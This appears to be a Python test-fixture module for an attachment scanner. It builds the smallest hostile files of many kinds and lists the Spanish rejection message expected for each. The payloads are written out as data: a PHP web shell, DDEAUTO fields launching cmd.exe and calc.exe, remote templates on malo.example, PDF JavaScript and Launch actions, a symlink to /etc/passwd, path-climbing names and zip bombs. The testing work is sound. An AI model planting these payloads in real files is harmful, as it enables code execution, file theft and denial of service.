"""Files made to harm, each the smallest of its kind: `HOSTILE` by what they are, with their name and what is said."""

import hashlib
import struct
import zipfile
import zlib
from io import BytesIO

from attachments.inspection.rc4 import rc4
from attachments.inspection.xls import _md5, _plain_rc4
from tests.attachments.odd_fields import ODD_FIELDS, odd_field
from tests.attachments.valid_files import (
    JPEG,
    PDF,
    SHEET_MAIN,
    doc,
    docx,
    frame,
    ole,
    package,
    packed,
    pdf,
    relationships,
    stream,
    xls,
    xlsx,
)

EXE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\x00\x00\x4c\x01" + bytes(200)
PHP = b"<?php system($_GET['c']); ?>"
INSTALLER = bytes.fromhex("84100c0000000000c000000000000046")
SCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
DTD = '<!DOCTYPE Types [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]>'


def native(name: str, content: bytes) -> bytes:
    """A file put into a document as an icon."""
    path = name.encode() + b"\0"
    inner = b"\2\0" + path + path + b"\0\0\3\0" + struct.pack("<L", len(path)) + path
    body = inner + struct.pack("<L", len(content)) + content
    return struct.pack("<L", len(body)) + body


def field(instruction: str) -> bytes:
    """A document whose text has that field."""
    return f"<w:document><w:instrText>{instruction}</w:instrText></w:document>".encode()


def record(number: int, body: bytes) -> bytes:
    """Of a workbook."""
    return struct.pack("<2H", number, len(body)) + body


def link_to(text: str, *items: int, wide: bool = False) -> bytes:
    """A link of Excel 97, with items of those flags."""
    coded = text.encode("utf-16-le" if wide else "latin-1")
    names = b"".join(record(0x23, struct.pack("<HL2B", flags, 0, 2, 0) + b"A1") for flags in items)
    return record(0x1AE, struct.pack("<2HB", 0, len(text), wide) + coded) + names


def old_book(link: bytes, of_sheet: bytes = b"") -> bytes:
    """A workbook of Excel 95 with a link of its own and one of its sheet."""

    def linked(text: bytes) -> bytes:
        return record(0x17, bytes((len(text),)) + text) if text else b""

    begin = record(0x0809, struct.pack("<4H", 0x0500, 5, 0, 0))
    size = len(begin) + len(linked(link)) + 4 + 12 + 4
    sheet = record(0x0085, struct.pack("<L3B", size, 0, 0, 5) + b"Hoja1")
    return ole(
        {"Book": begin + linked(link) + sheet + record(0x0A, b"") + begin + linked(of_sheet) + record(0x0A, b"")}
    )


def password_of_excel() -> bytes:
    """The record of a workbook that Excel opens with a password of its own."""
    salt, proof = b"0123456789abcdef", b"fedcba9876543210"
    key_of, _verifier, _digest = _plain_rc4(bytes(6) + salt + bytes(32))
    return record(0x2F, struct.pack("<3H", 1, 1, 1) + salt + rc4(key_of(0), proof + _md5(proof)))


def protected_workbook(stream: bytes) -> bytes:
    """The same, encrypted with it as Excel does: the heads of the records stay, and the places of the sheets."""
    key_of, _verifier, _digest = _plain_rc4(bytes(6) + b"0123456789abcdef" + bytes(32))
    length = len(record(0x0809, bytes(16)))
    stream = stream[:length] + PASSWORD + stream[length:]
    laid = b"".join(rc4(key_of(block), bytes(1024)) for block in range(len(stream) // 1024 + 1))
    covered, at = bytearray(stream), 0
    while at < len(stream):
        number, size = struct.unpack_from("<2H", stream, at)
        begin = at + 4 + (4 if number == 0x85 else 0)
        at += 4 + size
        if number not in {0x0809, 0x2F}:
            covered[begin:at] = bytes(a ^ b for a, b in zip(stream[begin:at], laid[begin:at], strict=True))
    return ole({"Workbook": bytes(covered)})


PASSWORD = password_of_excel()


def edited(content: bytes, mark: bytes, at: int, value: bytes) -> bytes:
    """Bytes `at` behind each `mark` replaced."""
    changed = bytearray(content)
    place = content.find(mark)
    while place >= 0:
        changed[place + at : place + at + len(value)] = value
        place = content.find(mark, place + 1)
    return bytes(changed)


def object_stream(*objects: bytes, entries: bytes = b"", pack: bool = True) -> bytes:
    """A PDF with those objects hidden in a stream."""
    text, table = b"", b""
    for number, each in enumerate(objects, 10):
        table += b"%d %d " % (number, len(text))
        text += each + b"\n"
    data = zlib.compress(table + text) if pack else table + text
    filters = b"/Filter /FlateDecode " if pack else b""
    about = b"/Type /ObjStm /N %d /First %d " % (len(objects), len(table))
    return pdf(stream(data, about + filters + entries))


def bomb(unpacked: int) -> bytes:
    """A document with one part of that many nils."""
    return docx(word__big_dot_xml=bytes(unpacked))


def noise(size: int) -> bytes:
    return b"".join(hashlib.blake2b(number.to_bytes(4)).digest() for number in range(size // 64))


def gigabyte() -> bytes:
    """One that unpacks to a gigabyte, made without holding it."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in package().items():
            archive.writestr(name, content)
        with archive.open("word/big.bin", "w") as part:
            for _turn in range(1024):
                part.write(bytes(1024 * 1024))
    return buffer.getvalue()


def lying(content: bytes) -> bytes:
    """The same with a directory that gives its last part 100 bytes."""
    line, size = content.rfind(b"PK\1\2"), struct.pack("<L", 100)
    return content[: line + 24] + size + content[line + 28 :]


def many_entries(count: int) -> bytes:
    return packed(package(extra={f"p{number}": b"" for number in range(count)}), zipfile.ZIP_STORED)


def overlapping() -> bytes:
    """A part that holds another, header and all, to which the directory points as well."""
    inner = packed({"word/b.xml": bytes(300_000)})
    line = inner.find(b"PK\1\2")
    outer = packed(package(extra={"word/a.bin": inner[:line]}), zipfile.ZIP_STORED)
    start, end = outer.find(b"PK\1\2"), outer.rfind(b"PK\5\6")
    entry = inner[line : inner.rfind(b"PK\5\6")]
    entry = entry[:42] + struct.pack("<L", outer.find(inner[:line])) + entry[46:]
    tail = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 5, 5, end - start + len(entry), start, 0)
    return outer[:end] + entry + tail


def with_flag(name: str, flag: int) -> bytes:
    content = docx(word__a_dot_xml=b"<a/>")
    return edited(content, b"PK\1\2", {"flags": 8, "method": 10}[name], struct.pack("<H", flag))


def link() -> bytes:
    """A package with a symbolic link."""
    info = zipfile.ZipInfo("word/link.xml")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    buffer = BytesIO(docx())
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def twice(name: str) -> bytes:
    """Two parts of the same name but for their case."""
    return packed(package(extra={name: b"<a/>", name.upper(): b"<b/>"}))


def external(kind: str, target: str) -> bytes:
    return docx(word___rels__document_dot_xml_dot_rels=relationships((kind, target, "External")))


def typed(part: str, content_type: str) -> bytes:
    """A workbook with a further part of that type."""
    types = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
    return packed(package(SHEET_MAIN, part="xl/workbook.xml", types=types, extra={part: b"<a/>"}))


MACRO_SHEET = "application/vnd.ms-excel.macrosheet+xml"
MACROS, PROGRAM, DAMAGED = "contiene macros", "un programa", "no se puede leer"
LOCKED, OVERSIZED, REMOTE = "con contraseña", "demasiado", "de otro equipo"
SCRIPTED, COMMANDS, TWOFOLD = "JavaScript", "DDE", "también otro tipo"

HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "vba": ("a.docx", docx(word__vbaProject_dot_bin=b"x"), MACROS),
    "vba elsewhere": ("a.xlsx", xlsx(xl__other__vbaProject_dot_bin=b"x"), MACROS),
    "macro document": ("a.docx", packed(package("application/vnd.ms-word.document.macroEnabled.main+xml")), MACROS),
    "macro sheet": ("a.xlsx", typed("xl/macrosheets/sheet1.xml", MACRO_SHEET), MACROS),
    "binary workbook": ("a.xlsx", typed("xl/workbook.bin", "application/vnd.ms-excel.sheet.binary.main"), MACROS),
    "activex": ("a.docx", docx(word__activeX__activeX1_dot_xml=b"<a/>"), "ActiveX"),
    "exe by name": ("a.docx", docx(word__media__a_dot_exe=b"x"), PROGRAM),
    "script by name": ("a.xlsx", xlsx(xl__a_dot_vbs=b"x"), PROGRAM),
    "exe by content": ("a.docx", docx(word__media__image1_dot_png=EXE), PROGRAM),
    "exe in an icon": (
        "a.docx",
        docx(word__embeddings__o_dot_bin=ole({"\1Ole10Native": native("a.txt", EXE)})),
        PROGRAM,
    ),
    "macros in a sheet inside": (
        "a.docx",
        docx(word__embeddings__a_dot_xlsx=xlsx(xl__vbaProject_dot_bin=b"x")),
        MACROS,
    ),
    "macros in an old sheet inside": (
        "a.docx",
        docx(word__o_dot_bin=xls(streams={"_VBA_PROJECT_CUR/VBA/dir": b"x"})),
        MACROS,
    ),
    "remote template": ("a.docx", external("attachedTemplate", "https://malo.example/a.dotm"), REMOTE),
    "template on a share": ("a.docx", external("attachedTemplate", "\\\\malo.example\\a\\a.dotm"), REMOTE),
    "template on a share, as address": ("a.docx", external("attachedTemplate", "file://malo.example/a.dotm"), REMOTE),
    "template on a share, as Windows writes it": (
        "a.docx",
        external("attachedTemplate", "file:////malo/a.dotm"),
        REMOTE,
    ),
    "saved page": (
        "a.docx",
        docx(word__afchunk_dot_mht=b"MIME-Version: 1.0\r\n"),
        "lleva dentro una página web guardada (MHT). Ábralo con Word, guárdelo como .docx",
    ),
    "remote object": (
        "a.docx",
        external("oleObject", "mhtml:https://malo.example/a!x-usc:https://malo.example/a"),
        REMOTE,
    ),
    "remote template in coded letters": ("a.docx", external("attached&#84;emplate", "https://malo.example/"), REMOTE),
    "remote frame": ("a.docx", external("frame", "http://malo.example/"), REMOTE),
    "dde": ("a.docx", docx(word__a_dot_xml=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")), COMMANDS),
    "dde in pieces": ("a.docx", docx(word__a_dot_xml=field(' D</w:instrText><w:instrText>DE "cmd"')), COMMANDS),
    "dde in coded letters": ("a.docx", docx(word__a_dot_xml=field('&#68;D&#x45; "cmd"')), COMMANDS),
    "dde as simple field": (
        "a.docx",
        docx(word__a_dot_xml=b"<w:fldSimple w:dirty='true' w:instr='DDE cmd'/>"),
        COMMANDS,
    ),
    **{f"dde {where}": ("a.docx", odd_field(xml), COMMANDS) for where, xml in ODD_FIELDS.items()},
    "dde in 16 bits": ("a.docx", odd_field(ODD_FIELDS["as CDATA"], "utf-16"), COMMANDS),
    "dde link": ("a.xlsx", xlsx(xl__externalLinks__e_dot_xml=b'<x:ddeLink ddeService="cmd"/>'), COMMANDS),
    "entities": ("a.docx", packed(package(head=DTD)), DAMAGED),
    "entities elsewhere": ("a.xlsx", xlsx(xl__sharedStrings_dot_xml=DTD.encode()), DAMAGED),
    "entities in 16 bits": ("a.xlsx", xlsx(xl__sharedStrings_dot_xml=DTD.encode("utf-16")), DAMAGED),
    "no relationships": ("a.docx", packed({"[Content_Types].xml": package()["[Content_Types].xml"]}), "parece un"),
    "other root": ("a.docx", packed({**package(), "word/document.xml": b"<html/>"}), ""),
    "password in the zip": ("a.docx", with_flag("flags", 1), LOCKED),
    "other compression": ("a.docx", with_flag("method", 14), DAMAGED),
    "symbolic link": ("a.docx", link(), DAMAGED),
    "absolute name": ("a.docx", packed(package(extra={"/etc/a.xml": b"<a/>"})), DAMAGED),
    "drive in a name": ("a.docx", packed(package(extra={"c:/a.xml": b"<a/>"})), DAMAGED),
    "name that climbs": ("a.docx", packed(package(extra={"word/../../a.xml": b"<a/>"})), DAMAGED),
    "name that climbs backwards": ("a.docx", packed(package(extra={"word\\..\\..\\a.xml": b"<a/>"})), DAMAGED),
    "same name twice": ("a.docx", twice("word/a.xml"), DAMAGED),
    "names that differ": ("a.docx", edited(docx(word__a_dot_xml=b"<a/>"), b"PK\3\4", 30, b"X"), DAMAGED),
    "something after the end": ("a.docx", docx() + b"x" * 17, DAMAGED),
    "two kinds": (
        "a.docx",
        packed(
            package(
                types=f'<Override PartName="/xl/workbook.xml" ContentType="{SHEET_MAIN}"/>',
                extra={"xl/workbook.xml": b"<workbook/>"},
            )
        ),
        "",
    ),
    "bomb": ("a.docx", bomb(30 * 1024 * 1024), OVERSIZED),
    "more than 20 MiB, of a fair ratio": (
        "a.docx",
        docx(a_dot_xml=bytes(21_000_000), b_dot_xml=noise(300_000)),
        OVERSIZED,
    ),
    "bomb below the limit, by its ratio": ("a.docx", bomb(10 * 1024 * 1024), OVERSIZED),
    "bomb that lies": ("a.docx", lying(bomb(1024 * 1024)), OVERSIZED),
    "overlapping parts": ("a.docx", overlapping(), OVERSIZED),
    "1,001 entries": ("a.docx", many_entries(998), OVERSIZED),
    "old macros": ("a.doc", doc({"Macros/VBA/dir": b"x"}), MACROS),
    "old macros of excel": ("a.xls", xls(streams={"_VBA_PROJECT_CUR/VBA/dir": b"x"}), MACROS),
    "excel 4 macros": ("a.xls", xls(0, 1), MACROS),
    "dde in an old workbook": ("a.xls", xls(before=link_to("cmd\3/c calc.exe", 0)), COMMANDS),
    "dde in an old workbook, in 16 bits": ("a.xls", xls(before=link_to("cmd\3/c calc.exe", 0, wide=True)), COMMANDS),
    "dde without items": ("a.xls", xls(before=link_to("cmd\3/c calc.exe")), COMMANDS),
    "dde behind an object": (
        "a.xls",
        xls(before=link_to("Word.Document.8\3C:\\a.doc", 0x10) + link_to("cmd\3/c calc", 0)),
        COMMANDS,
    ),
    "dde in a workbook of Excel 95": ("a.xls", old_book(b"cmd\3/c calc.exe"), COMMANDS),
    "dde in a sheet of Excel 95": ("a.xls", old_book(b"", b"cmd\3/c calc.exe"), COMMANDS),
    "two passwords": ("a.xls", xls(before=PASSWORD * 2), DAMAGED),
    "old password": ("a.doc", doc(flags=0x0100), LOCKED),
    "old password of excel": ("a.xls", xls(before=struct.pack("<8H", 0x2F, 6, 0, 1, 2, 0, 0, 0)[:10]), LOCKED),
    "encrypted package": ("a.docx", ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), LOCKED),
    "rights management": ("a.doc", doc({"\6DataSpaces/x": b"", "\x09DRMContent": b"x"}), LOCKED),
    "installer": ("a.doc", ole({"WordDocument": b"x"}, INSTALLER), PROGRAM),
    "exe in an old icon": ("a.doc", doc({"ObjectPool/1/\1Ole10Native": native("a.exe", b"x")}), PROGRAM),
    "shortcut in an old icon": ("a.xls", xls(streams={"MBD1/\1Ole10Native": native("a.lnk", b"x")}), PROGRAM),
    "old dde": ("a.doc", doc(text=b"Hola \x13 DDEAUTO c:\\cmd.exe \x14\x15"), COMMANDS),
    "old dde in 16 bits": ("a.doc", doc(text="\x13DDE cmd ".encode("utf-16-le")), COMMANDS),
    "word without a header": ("a.doc", ole({"WordDocument": b"x"}), DAMAGED),
    "powerpoint": ("a.doc", ole({"PowerPoint Document": b"x"}), ""),
    "two old kinds": ("a.doc", ole({"WordDocument": b"\xec\xa5", "Workbook": b"\x09\x08"}), ""),
    "javascript": ("a.pdf", pdf(catalogue=SCRIPT), SCRIPTED),
    "javascript with coded names": (
        "a.pdf",
        pdf(catalogue=SCRIPT.replace(b"JavaS", b"#4aava#53").replace(b"/JS", b"/J#53")),
        SCRIPTED,
    ),
    "javascript by reference": (
        "a.pdf",
        pdf(b"/JavaScript", catalogue=b"/OpenAction << /S 4 0 R /JS 5 0 R >>"),
        SCRIPTED,
    ),
    "javascript in an object stream": ("a.pdf", object_stream(b"<< " + SCRIPT + b" >>"), SCRIPTED),
    "javascript in a plain object stream": ("a.pdf", object_stream(b"<< " + SCRIPT + b" >>", pack=False), SCRIPTED),
    "javascript behind a false end": ("a.pdf", pdf(b"<< /A (1 0 obj << >> stream ) " + SCRIPT + b" >>"), SCRIPTED),
    "javascript behind a comment": ("a.pdf", pdf(b"<< % endobj stream (\n" + SCRIPT + b" >>"), SCRIPTED),
    "javascript in a text that is none": ("a.pdf", pdf(b"(", b"<< " + SCRIPT + b" >>", b")"), SCRIPTED),
    "javascript in a stream that is none": (
        "a.pdf",
        pdf(b"<< >> stream", b"<< " + SCRIPT + b" >>", b"endstream"),
        SCRIPTED,
    ),
    "object stream of another packing": ("a.pdf", object_stream(b"<< >>", entries=b"/F /LZWDecode "), DAMAGED),
    "launch": ("a.pdf", pdf(catalogue=b"/OpenAction << /S /Launch /F (cmd.exe) >>"), "abre otros archivos"),
    "exe attached to a pdf": ("a.pdf", pdf(b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"), PROGRAM),
    "exe attached by its bytes": (
        "a.pdf",
        pdf(stream(zlib.compress(EXE), b"/Type /EmbeddedFile /Filter /FlateDecode")),
        PROGRAM,
    ),
    "pdf after a page": ("a.pdf", b"<html><script>alert(1)</script>" + bytes(200) + PDF, ""),
    "pdf after commands": ("a.pdf", b"@echo off\r\ncalc.exe\r\nexit\r\n" + PDF, ""),
    "pdf after a part of a page": ("a.pdf", b"<title>x</title><table>\n" + PDF, TWOFOLD),
    "pdf after php": ("a.pdf", PHP + PDF, TWOFOLD),
    "pdf after an exe": ("a.pdf", EXE + PDF, ""),
    "pdf and zip": ("a.pdf", PDF + packed({"a.txt": b"a"}), TWOFOLD),
    "pdf and page": ("a.pdf", PDF + b"<html><script>alert(1)</script>", TWOFOLD),
    "pdf and exe": ("a.pdf", PDF + EXE, TWOFOLD),
    "pdf without an end": ("a.pdf", PDF[:-30], DAMAGED),
    "pdf without objects": ("a.pdf", b"%PDF-1.4\n%%EOF\n", DAMAGED),
    "pdf for a shop's program": ("a.pdf", pdf(b"<< /Filter /FOPN_foweb /V 1 >>", trailer=b"/Encrypt 4 0 R"), LOCKED),
    "page as picture": ("a.jpg", b"\xff\xd8\xff\xe0<html><script>alert(1)</script></html>", DAMAGED),
    "php in a picture": ("a.jpg", JPEG[:20] + b"\xff\xfe\x00\x1e" + PHP + JPEG[20:], TWOFOLD),
    "php after a picture": ("a.jpg", JPEG + PHP, TWOFOLD),
    "zip after a picture": ("a.jpg", JPEG + packed({"a.exe": EXE}), TWOFOLD),
    "pdf in a picture": ("a.jpg", JPEG[:20] + b"\xff\xfe\x01\x00" + PDF[:200] + bytes(54) + JPEG[20:], TWOFOLD),
    "picture of 144 megapixels": ("a.jpg", frame(12_000, 12_000), "40 megapíxeles"),
    "progressive picture of 144 megapixels": ("a.jpg", frame(12_000, 12_000, 0xC2), "40 megapíxeles"),
    "picture without a size": ("a.jpg", frame(0, 0), DAMAGED),
    "picture without an image": ("a.jpg", JPEG[:-12], DAMAGED),
}


def object_bomb() -> bytes:
    packer = zlib.compressobj(9)
    data = packer.compress(b"4 0 ") + b"".join(packer.compress(bytes(1024 * 1024)) for _turn in range(1024))
    return pdf(stream(data + packer.flush(), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"))


# Of some size: made when asked for
BOMBS = {
    "1 GB in 1 MB": ("a.docx", gigabyte, OVERSIZED),
    "18,000 entries": ("a.docx", lambda: many_entries(18_000), OVERSIZED),
    "overlapping members": ("a.docx", overlapping, OVERSIZED),
    "a gigabyte in an object stream": ("a.pdf", object_bomb, OVERSIZED),
    "picture of 144 megapixels": ("a.jpg", lambda: frame(12_000, 12_000) + bytes(1_700_000), "40 megapíxeles"),
}
